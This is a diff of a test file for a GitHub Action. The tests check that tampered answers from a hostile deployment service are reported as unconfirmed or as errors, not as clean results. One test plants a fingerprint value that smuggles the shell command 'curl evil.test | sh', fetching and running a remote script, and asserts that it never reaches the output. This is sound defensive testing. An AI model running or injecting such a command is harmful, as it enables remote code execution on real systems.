@@ -10,7 +10,7 @@ import { HOSTILE_TEXT, hostileSeed } from '../../src/sandbox/seeds/hostile.js';
 import { onPullRequest, useFakeGitHub } from '../helpers/github-api.js';
 import { useTempDirs } from '../helpers/git.js';
 import { pod, podList, running } from '../helpers/pods.js';
-import { runAction, type RunResult } from '../helpers/runner.js';
+import { outputFile, runAction, type RunResult } from '../helpers/runner.js';
 import { DEMO_TOKEN, useSandbox } from '../helpers/sandbox.js';
 import { assertNoSecret, withoutMaskCommands } from '../helpers/secrets.js';
 
@@ -29,8 +29,8 @@ const OWN_COMMAND = /^::(group|endgroup|debug|notice|warning|error|add-mask)( [^
 /** A mention as GitHub reads one. */
 const MENTION = /(?<![A-Za-z0-9_])@[A-Za-z0-9]/;
 
-async function hostileSandbox() {
-  return start({ seed: hostileSeed() });
+async function hostileSandbox(options: { profile?: 'full' } = {}) {
+  return start({ seed: hostileSeed(), ...options });
 }
 
 function connection(url: string): Record<string, string> {
@@ -133,7 +133,8 @@ describe('against a hostile service', () => {
   });
 
   it('get-deployment: a hostile deployment, its name kept exactly in the output', async () => {
-    const sandbox = await hostileSandbox();
+    // Every text of a deployment is only shown: a minimal answer has none, hostile or not.
+    const sandbox = await hostileSandbox({ profile: 'full' });
     const result = await runAction('get-deployment', {
       inputs: { ...connection(sandbox.url), environment: 'staging', fingerprint: BACKEND_150 },
     });
@@ -259,26 +260,64 @@ describe('answers that would fool a gate', () => {
     );
   });
 
-  it('diff-envs: an answer that names no snapshot is could-not-check, never "no differences"', async () => {
-    const sandbox = await tampered('/env-diff/demo?snappish1=staging&snappish2=staging', (answer) => {
-      for (const group of Object.values(answer)) delete (group as Record<string, unknown>).snapshot_id;
+  describe('diff-envs: an answer that names no snapshot is not confirmed, never "no differences" as asked', () => {
+    const notConfirmed =
+      'Not confirmed: the answer names no snapshot for snappish1 and snappish2, so it cannot be shown to be about ' +
+      'staging and staging as asked.';
+    const unnamed = (inputs: Record<string, string> = {}) =>
+      tampered('/env-diff/demo?snappish1=staging&snappish2=staging', (answer) => {
+        for (const group of Object.values(answer)) delete (group as Record<string, unknown>).snapshot_id;
+      }).then((sandbox) =>
+        runAction('diff-envs', {
+          inputs: { ...connection(sandbox.url), 'snapshot-1': 'staging', 'snapshot-2': 'staging', ...inputs },
+        }),
+      );
+
+    it('without a gate it goes on, and the summary and log say it is not confirmed', async () => {
+      const result = await unnamed();
+      expect(result.code).toBe(0);
+      expect(result.outputs).toMatchObject({
+        outcome: 'same',
+        changed: 'false',
+        'snapshot-1-id': '',
+        'snapshot-2-id': '',
+      });
+      expect(result.stdout).toContain(`\n${notConfirmed}\n`);
+      expect(result.stdout).not.toContain('::error');
+      expect(result.summary).toContain(`### Environment diff: staging → staging\n\n${notConfirmed}\n`);
+      // Never "both name the same snapshot": the answer does not say which it is.
+      expect(result.summary).not.toContain('Both name the same snapshot');
+      expect(outputFile(result, 'result-file')).toMatchObject({
+        outcome: 'same',
+        snapshot1: { expression: 'staging', id: null, name: 'staging' },
+        snapshot2: { expression: 'staging', id: null, name: 'staging' },
+      });
     });
-    const result = await runAction('diff-envs', {
-      inputs: {
-        ...connection(sandbox.url),
-        'snapshot-1': 'staging',
-        'snapshot-2': 'staging',
-        'fail-on-diff': 'true',
+
+    it.each(['fail-on-diff', 'fail-on-non-compliant'])(
+      'with %s it is could not check (outcome error), the diff written all the same',
+      async (gate) => {
+        const result = await unnamed({ [gate]: 'true' });
+        expect(result.code).toBe(1);
+        expect(result.outputs).toMatchObject({ outcome: 'error', 'snapshot-1-id': '', 'snapshot-2-id': '' });
+        expect(result.stdout.trimEnd().split('\n').at(-1)).toBe(
+          `::error::${gate}: could not check. ${notConfirmed}`,
+        );
+        expect(result.summary).toContain('<sub>Outcome: **error**');
+        expect(result.summary).toContain(notConfirmed);
+        expect(outputFile(result, 'result-file')).toMatchObject({
+          outcome: 'error',
+          error: { kind: 'unexpected-response', message: `${gate}: could not check. ${notConfirmed}` },
+        });
       },
-    });
-    expect(result.code).toBe(1);
-    expect(result.outputs.changed).not.toBe('false');
-    expect(result.stdout).toContain('snapshot_id is missing: the answer names no snapshot');
+    );
   });
 
   it('get-deployment: a replaced fingerprint that is not a fingerprint never reaches the output', async () => {
     const sandbox = await tampered(`/deployments/demo/staging/${BACKEND_150}`, (answer) => {
-      (answer.replaced_artifact as Record<string, unknown>).fingerprint = '"; curl evil.test | sh; echo "';
+      // A minimal answer names no replaced artifact: the tampered one names this one alone.
+      const replaced = (answer.replaced_artifact ?? {}) as Record<string, unknown>;
+      answer.replaced_artifact = { ...replaced, fingerprint: '"; curl evil.test | sh; echo "' };
     });
     const result = await runAction('get-deployment', {
       inputs: { ...connection(sandbox.url), environment: 'staging', fingerprint: BACKEND_150 },
@@ -286,5 +325,7 @@ describe('answers that would fool a gate', () => {
     expect(result.outputs.outcome).toBe('found');
     expect(result.outputs['replaced-fingerprint']).toBe('');
     expect(result.everything).not.toContain('curl evil.test');
+    // It replaced something the step cannot read: never "nothing".
+    expect(result.summary).not.toContain('| Replaced | nothing |');
   });
 });
